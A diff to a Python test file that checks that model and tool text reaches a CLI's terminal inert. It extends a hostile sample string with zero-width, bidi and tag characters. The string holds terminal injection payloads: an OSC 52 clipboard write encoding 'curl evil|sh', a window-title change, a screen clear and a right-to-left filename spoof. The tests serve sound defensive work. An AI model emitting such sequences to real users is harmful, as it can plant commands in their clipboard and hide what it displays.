@@ -183,7 +183,8 @@ def test_history_treats_content_as_text_not_markup(cli: Invoke, agent_name: str)
 
 #: What a hostile model or tool output would send to the operator's terminal: set the
 #: clipboard (OSC 52), retitle the window, clear the screen, overwrite the line.
-HOSTILE = "ok\x1b]52;c;Y3VybCBldmlsfHNo\x07 \x1b]0;pwned\x07\x1b[2J\rfake\u202egnp.exe\x9b31m"
+HOSTILE = ("ok\x1b]52;c;Y3VybCBldmlsfHNo\x07 \x1b]0;pwned\x07\x1b[2J\rfake\u202egnp.exe\x9b31m"
+           " zero\u200bwidth\u2066tag\U000e0041")
 
 
 def test_model_and_tool_text_reach_the_terminal_inert(cli: Invoke, agent_name: str,
@@ -203,11 +204,13 @@ def test_model_and_tool_text_reach_the_terminal_inert(cli: Invoke, agent_name: s
         assert result.exit_code == 0, result.output
         outputs.append(result.output)
     for out in outputs:
-        for bad in ("\x1b", "\x07", "\r", "\u202e", "\x9b"):
+        for bad in ("\x1b", "\x07", "\r", "\u202e", "\x9b", "\u200b", "\u2066",
+                    "\U000e0041"):
             assert bad not in out, (bad, out)
     # Nothing is hidden: the sequences show as text a person can read.
     assert "\\x1b]52;c;Y3VybCBldmlsfHNo\\x07" in outputs[1]
     assert "\\u202e" in outputs[1]
+    assert "zero\\u200bwidth\\u2066tag\\U000e0041" in outputs[1]
 
 
 def test_delete(cli: Invoke, agent_name: str) -> None:
